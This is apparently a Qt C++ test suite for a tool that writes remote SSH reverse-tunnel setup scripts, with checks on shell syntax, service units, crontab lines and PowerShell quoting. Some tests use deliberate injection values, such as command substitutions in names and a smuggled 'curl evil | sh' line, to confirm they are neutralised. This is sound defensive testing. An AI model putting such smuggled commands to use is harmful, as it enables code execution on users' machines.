#include "core/situations/remotesetup.h"
#include "core/situations/planner.h"
#include "tests/support/needs.h"
#include "tests/support/otheruser.h"
#include "tests/support/testprogram.h"

#include <QProcess>
#include <QRegularExpression>
#include <QTemporaryDir>
#include <QXmlStreamReader>

using namespace culvert;
using namespace culvert::test;
using namespace Qt::StringLiterals;

/// The scripts as texts, and run where that needs no server; tst_otherhalf runs them against one.
class TestRemoteSetup : public QObject
{
    Q_OBJECT

private slots:
    void shellsCanReadIt_data();
    void shellsCanReadIt();
    void saysWhatItDoes();
    void staysWholeWithAnyName();
    void keepsTunnelsApart();
    void linuxWritesAUnitThatVerifies();
    void linuxIsTakenBack();
    void macWritesAnAgent();
    void shellKeepsItsLineInTheCrontab();
    void powershellIsBalanced();
    void powershellQuotesItsArrays();
    void saysWhereTheServersKeyIsNotKnown();
    void keyOptionsAllowNothingElse();
    void knowsWhoseScriptItIs();
};

namespace {

const QStringList serverKeys{u"relay.example.org ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGPX"_s};

/// The one that is fenced and dials a relay.
Half half(const QString &name = u"Reach pi"_s)
{
    Half made;
    made.machine = u"pi"_s;
    made.profile.name = name;
    made.profile.host = u"relay.example.org"_s;
    made.profile.user = u"ann"_s;
    made.profile.port = 2222;
    made.profile.forwards = {*parseForward(u'R', u"12345:localhost:22")};
    made.profile.surroundings.seat = Seat::Acceptor;
    made.profile.surroundings.thisMachine = u"pi"_s;
    return made;
}

QString between(const QString &text, const QString &begin, const QString &end)
{
    const qsizetype from = text.indexOf(begin);
    const qsizetype to = text.indexOf(end, from + begin.size());
    return from < 0 || to < 0 ? QString()
                              : text.sliced(from + begin.size(), to - from - begin.size());
}

/// What is laid down on the other machine.
QString inner(const RemoteSetup &setup)
{
    return between(setup.script.sliced(setup.script.indexOf(u'\n')), u"\n"_s, u"END_OF_KIT\n"_s);
}

QString checkedBy(const QString &shell, const QString &script)
{
    QProcess process;
    process.setProcessChannelMode(QProcess::MergedChannels);
    process.start(shell, {u"-n"_s});
    process.write(script.toUtf8());
    process.closeWriteChannel();
    if (!process.waitForFinished())
        return u"it does not end"_s;
    return QString::fromUtf8(process.readAll());
}

} // namespace

void TestRemoteSetup::shellsCanReadIt_data()
{
    QTest::addColumn<QString>("shell");
    QTest::addColumn<RemoteSystem>("system");
    for (const char *shell : {"sh", "bash", "dash"}) {
        for (const RemoteSystem system :
             {RemoteSystem::Linux, RemoteSystem::MacOs, RemoteSystem::Shell})
            QTest::addRow("%s, %d", shell, int(system)) << QString::fromLatin1(shell) << system;
    }
}

void TestRemoteSetup::shellsCanReadIt()
{
    QFETCH(QString, shell);
    QFETCH(RemoteSystem, system);
    CULVERT_NEEDS(whyNoProgram(shell));
    const RemoteSetup setup = remoteSetupFor(half(), system, serverKeys);
    QCOMPARE(checkedBy(shell, setup.script), QString());
    QVERIFY(!inner(setup).isEmpty());
    QCOMPARE(checkedBy(shell, inner(setup)), QString());
    // a prompt would take these for itself
    QVERIFY(!setup.script.contains(u'\t'));
    QVERIFY(!setup.script.startsWith(u'#'));
    QVERIFY(setup.script.endsWith(u"\nEND_OF_KIT\n"_s));
}

void TestRemoteSetup::saysWhatItDoes()
{
    for (const RemoteSystem system : allRemoteSystems) {
        const RemoteSetup setup = remoteSetupFor(half(), system, serverKeys);
        for (const QString &part :
             {u"12345:localhost:22"_s, u"ann@relay.example.org"_s, u"ExitOnForwardFailure=yes"_s,
              u"BatchMode=yes"_s, u"StrictHostKeyChecking=yes"_s, u"IdentitiesOnly=yes"_s,
              serverKeys.constFirst(), u"--undo"_s, u"The key of pi."_s, u"ssh-keygen"_s})
            QVERIFY2(setup.script.contains(part), qPrintable(part));
    }
    QCOMPARE(remoteSetupFor(half(), RemoteSystem::Shell, {}).fileName, u"reach-pi.sh"_s);
    QCOMPARE(remoteSetupFor(half(), RemoteSystem::Windows, {}).fileName, u"reach-pi.ps1"_s);
}

void TestRemoteSetup::staysWholeWithAnyName()
{
    CULVERT_NEEDS(OtherUser::whyImpossible());
    const OtherUser pi;
    Half evil = half(u"it's \"$(touch ~/bad)\" `touch ~/bad` \u00fc\\"_s);
    evil.machine = u"p'i $(touch ~/bad)"_s;
    evil.profile.host = u"relay'.example.org"_s;
    for (const RemoteSystem system :
         {RemoteSystem::Linux, RemoteSystem::MacOs, RemoteSystem::Shell}) {
        const RemoteSetup setup = remoteSetupFor(evil, system, serverKeys);
        QCOMPARE(checkedBy(u"sh"_s, inner(setup)), QString());
        const OtherUser::Ended ended = pi.runScript(setup.script, {u"--undo"_s});
        QVERIFY2(ended.text.contains(u"All of it is gone"_s), qPrintable(ended.text));
        QCOMPARE(pi.everything(), QStringList{u".ssh"_s});
    }
    evil.profile.surroundings.thisMachine = u"nas\ncurl evil | sh #"_s; // a line of its own
    QCOMPARE(problemsOf(evil.profile).value(0).field, u"surroundings"_s);
}

/// Two tunnels of which nothing but dashes remains alike, and two of the same name.
void TestRemoteSetup::keepsTunnelsApart()
{
    Half one = half(u"K\u00f6ln"_s);
    Half two = half(u"K-ln!"_s);
    one.profile.id = newProfileId();
    two.profile.id = newProfileId();
    for (const QString &name : {two.profile.name, one.profile.name}) {
        two.profile.name = name;
        for (const RemoteSystem system : allRemoteSystems) {
            const QString script = remoteSetupFor(one, system, serverKeys).script;
            static const QRegularExpression named(u"culvert-(k-ln-[0-9a-f]{8})/"_s);
            const QString folder = named.match(script).captured(1);
            const QString agent = between(script, u"agents/tunnel."_s, u".plist"_s);
            QVERIFY2(!folder.isEmpty(), qPrintable(script));
            QCOMPARE(remoteSetupFor(one, system, serverKeys).script, script);
            const QString other = remoteSetupFor(two, system, serverKeys).script;
            QVERIFY(!other.contains(folder));
            QCOMPARE(agent.isEmpty(), system != RemoteSystem::MacOs);
            QVERIFY(agent.isEmpty() || (other.contains(u"tunnel.k-ln-"_s) && agent == folder));
        }
    }
    QCOMPARE(remoteSetupFor(one, RemoteSystem::Shell, {}).fileName, u"k-ln.sh"_s);
}

/// systemd itself does not run here: a stand-in keeps a book, and starts what the unit says.
void TestRemoteSetup::linuxWritesAUnitThatVerifies()
{
    CULVERT_NEEDS_PROGRAM("systemd-analyze");
    const QString unit = between(remoteSetupFor(half(), RemoteSystem::Linux, serverKeys).script,
                                 u"<<'END_OF_UNIT'\n"_s, u"END_OF_UNIT"_s);
    QVERIFY2(unit.contains(u"Restart=always\n"_s), qPrintable(unit));
    QTemporaryDir folder;
    QFile file(folder.filePath(u"culvert-test.service"_s));
    QVERIFY(file.open(QIODevice::WriteOnly));
    file.write(unit.toUtf8());
    file.close();
    QProcess analyze;
    analyze.setProcessChannelMode(QProcess::MergedChannels);
    analyze.start(u"systemd-analyze"_s, {u"verify"_s, u"--man=no"_s, file.fileName()});
    QVERIFY(analyze.waitForFinished());
    const QString said = QString::fromUtf8(analyze.readAll());
    QVERIFY2(analyze.exitCode() == 0 && !said.contains(u"culvert-test.service:"_s),
             qPrintable(said + unit));
}

void TestRemoteSetup::linuxIsTakenBack()
{
    CULVERT_NEEDS(OtherUser::whyImpossible());
    CULVERT_NEEDS_PROGRAM("ssh-keygen");
    const OtherUser pi;
    const QByteArray book = "#!/bin/sh\necho \"$(basename \"$0\") $*\" >> \"$HOME/book\"\n";
    QVERIFY(pi.addProgram(u"systemctl"_s, book) && pi.addProgram(u"loginctl"_s, book));
    const RemoteSetup setup = remoteSetupFor(half(), RemoteSystem::Linux, serverKeys);
    for (int time = 0; time < 2; ++time) {
        const OtherUser::Ended ended = pi.runScript(setup.script);
        QVERIFY2(ended.code == 0 && ended.text.contains(u"ssh-ed25519 AAAA"_s),
                 qPrintable(ended.text));
    }
    const QString unit = u".config/systemd/user/culvert-reach-pi.service"_s;
    QVERIFY(pi.has(unit));
    const QByteArray once = "systemctl --user daemon-reload\n"
                            "systemctl --user enable culvert-reach-pi.service\n"
                            "systemctl --user restart culvert-reach-pi.service\n";
    QVERIFY2(pi.contents(u"book"_s).endsWith(once), pi.contents(u"book"_s).constData());
    QVERIFY(pi.contents(u"book"_s).startsWith("loginctl --no-ask-password enable-linger\n"));
    QCOMPARE(pi.contents(u".ssh/culvert-reach-pi/known_hosts"_s),
             serverKeys.join(u'\n').toUtf8() + '\n');
    QVERIFY(pi.runScript(setup.script, {u"--undo"_s}).code == 0);
    QVERIFY(!pi.has(unit) && !pi.has(u".ssh/culvert-reach-pi"_s));
    QVERIFY(pi.contents(u"book"_s).contains("systemctl --user disable --now culvert-reach-pi"));
    QVERIFY(pi.contents(u"book"_s).endsWith("loginctl --no-ask-password disable-linger\n"));

    // where there is no manager, the script says what to take instead, and does not claim success
    QVERIFY(pi.addProgram(u"systemctl"_s, "#!/bin/sh\nexit 1\n"));
    const OtherUser::Ended without = pi.runScript(setup.script);
    QVERIFY(without.code != 0 && without.text.contains(u"plain shell"_s));
    QVERIFY(!without.text.contains(u"The service runs"_s));
}

/// macOS itself was never at hand: what can be seen from here is that its file is well-formed, and
/// what launchctl is asked for.
void TestRemoteSetup::macWritesAnAgent()
{
    CULVERT_NEEDS(OtherUser::whyImpossible());
    const OtherUser mac;
    QVERIFY(mac.addProgram(u"launchctl"_s, "#!/bin/sh\necho \"$1\" >> \"$HOME/book\"\n"));
    const RemoteSetup setup = remoteSetupFor(half(), RemoteSystem::MacOs, serverKeys);
    const OtherUser::Ended ended = mac.runScript(setup.script);
    QVERIFY2(ended.code == 0, qPrintable(ended.text));
    QXmlStreamReader reader(mac.contents(u"Library/LaunchAgents/tunnel.reach-pi.plist"_s));
    QStringList texts;
    while (!reader.atEnd()) {
        if (reader.readNext() == QXmlStreamReader::StartElement
            && (reader.name() == u"string" || reader.name() == u"key"))
            texts.append(reader.readElementText());
    }
    QVERIFY2(!reader.hasError(), qPrintable(reader.errorString()));
    const QStringList wanted{u"/bin/sh"_s, u"-c"_s,
                             u"exec sh \"$HOME/.ssh/culvert-reach-pi/kit.sh\" --run"_s};
    QCOMPARE(texts.sliced(texts.indexOf(u"ProgramArguments"_s) + 1, 3), wanted);
    QVERIFY(mac.runScript(setup.script, {u"--undo"_s}).code == 0);
    QCOMPARE(mac.contents(u"book"_s), QByteArray("unload\nload\nunload\n"));
    QVERIFY(!mac.has(u".ssh/culvert-reach-pi"_s));
    QVERIFY(!mac.has(u"Library/LaunchAgents/tunnel.reach-pi.plist"_s));
}

/// A stand-in for cron's own program, which keeps the lines in a file.
void TestRemoteSetup::shellKeepsItsLineInTheCrontab()
{
    CULVERT_NEEDS(OtherUser::whyImpossible());
    CULVERT_NEEDS_PROGRAM("ssh-keygen");
    const OtherUser pi;
    QVERIFY(pi.addProgram(u"crontab"_s,
                          "#!/bin/sh\ncase $1 in\n-l) cat \"$HOME/lines\" ;;\n"
                          "-) cat > \"$HOME/new\" && mv \"$HOME/new\" \"$HOME/lines\" ;;\n"
                          "esac\n"));
    const QByteArray mine = "5 4 * * * backup # culvert-reach-pi-too\n";
    QVERIFY(pi.run(u"sh"_s,
                   {u"-c"_s, u"echo '%1' > ~/lines"_s.arg(QString::fromLatin1(mine.trimmed()))})
                .code
            == 0);
    const RemoteSetup setup = remoteSetupFor(half(), RemoteSystem::Shell, serverKeys);
    for (int time = 0; time < 2; ++time)
        QVERIFY(pi.runScript(setup.script).code == 0);
    QCOMPARE(pi.contents(u"lines"_s),
             mine
                 + "@reboot sh \"$HOME/.ssh/culvert-reach-pi/kit.sh\" --keep # culvert-reach-pi\n");
    QVERIFY(pi.runScript(setup.script, {u"--undo"_s}).code == 0);
    QCOMPARE(pi.contents(u"lines"_s), mine);
}

/// No PowerShell is at hand: strings and brackets are looked at, as far as they matter for a paste.
void TestRemoteSetup::powershellIsBalanced()
{
    Half evil = half(u"it's $(bad) \"quoted\" \u201cso\u201d"_s);
    evil.machine = u"p'i \u2018l\u2019autre\u201b \u201amachine"_s;
    const QString script = remoteSetupFor(evil, RemoteSystem::Windows, serverKeys).script;
    const QString body = between(script, u"-Value @'\n"_s, u"\n'@\n"_s);
    QVERIFY(!body.isEmpty());
    QVERIFY(!body.contains(u"\n'@"_s)); // it would end the text that the script is laid down as
    QString open;
    for (const QString &line : body.split(u'\n')) {
        QChar quote; // no string of ours goes over a line's end
        for (qsizetype i = 0; i < line.size(); ++i) {
            QChar c = line[i];
            if (u"\u2018\u2019\u201a\u201b"_s.contains(c)) // as PowerShell reads them
                c = u'\'';
            else if (u"\u201c\u201d\u201e"_s.contains(c))
                c = u'"';
            if (!quote.isNull()) {
                if (c == quote)
                    quote = QChar();
            } else if (c == u'#') {
                break;
            } else if (c == u'\'' || c == u'"') {
                quote = c;
            } else if (u"({["_s.contains(c)) {
                open += c;
            } else if (u")}]"_s.contains(c)) {
                QVERIFY2(!open.isEmpty(), qPrintable(line));
                QCOMPARE(u"({["_s.indexOf(open.back()), u")}]"_s.indexOf(c));
                open.chop(1);
            }
        }
        QVERIFY2(quote.isNull(), qPrintable(line));
    }
    QCOMPARE(open, QString());
}

/// Between @( and ) stand expressions, where a bare word such as -i or 12345:localhost:22 ends the
/// reading of the whole script.
void TestRemoteSetup::powershellQuotesItsArrays()
{
    Half other = half();
    other.profile.options = {{u"ProxyCommand"_s, u"nc \"%h\" it's"_s}};
    const QString script = remoteSetupFor(other, RemoteSystem::Windows, serverKeys).script;
    int arrays = 0;
    for (qsizetype i = script.indexOf(u"@("_s); i >= 0; i = script.indexOf(u"@("_s, i)) {
        ++arrays;
        bool quoted = false;
        for (i += 2; quoted || script[i] != u')'; ++i) {
            if (script[i] == u'\'')
                quoted = !quoted;
            else if (!quoted)
                QVERIFY2(u" ,\n"_s.contains(script[i]), qPrintable(script.sliced(i, 20)));
        }
    }
    QCOMPARE(arrays, 2); // ssh's words, the server's keys
    for (const QString &word : {u"'-i'"_s, u"'IdentitiesOnly=yes'"_s, u"'12345:localhost:22'"_s})
        QVERIFY2(script.contains(word), qPrintable(word));
}

void TestRemoteSetup::saysWhereTheServersKeyIsNotKnown()
{
    for (const RemoteSystem system : allRemoteSystems) {
        const QString unknown = remoteSetupFor(half(), system, {}).script;
        QVERIFY(unknown.contains(u"log in there once by hand"_s));
        QVERIFY(unknown.contains(u"StrictHostKeyChecking=yes"_s));
        QVERIFY(!unknown.contains(u"UserKnownHostsFile"_s));
        QVERIFY(!remoteSetupFor(half(), system, serverKeys).script.contains(u"was not known"_s));
    }
}

void TestRemoteSetup::keyOptionsAllowNothingElse()
{
    const QString options = keyOptionsFor(half());
    QVERIFY2(options.startsWith(u"restrict,"_s), qPrintable(options));
    QVERIFY(options.contains(u"permitlisten=\"localhost:12345\""_s));
    QVERIFY(options.endsWith(u"command=\"false\""_s));
}

void TestRemoteSetup::knowsWhoseScriptItIs()
{
    const Half theirs = half();
    QCOMPARE(halfOfTheOther(theirs.profile), std::optional(Half{u"pi"_s, false, theirs.profile}));
    Profile ours = theirs.profile;
    ours.surroundings.seat = Seat::Dialler;
    QVERIFY(!halfOfTheOther(ours));
    Cast cast;
    cast.wish = Wish::Login;
    const Situation meeting = situationOf(7, cast);
    const std::optional<Half> partner = halfOfTheOther(meeting.halves[0].profile);
    QVERIFY(partner);
    QCOMPARE(partner->machine, u"B"_s);
    QCOMPARE(partner->profile.forwards, meeting.halves[1].profile.forwards);
}

CULVERT_TEST(TestRemoteSetup)
#include "tst_remotesetup.moc"
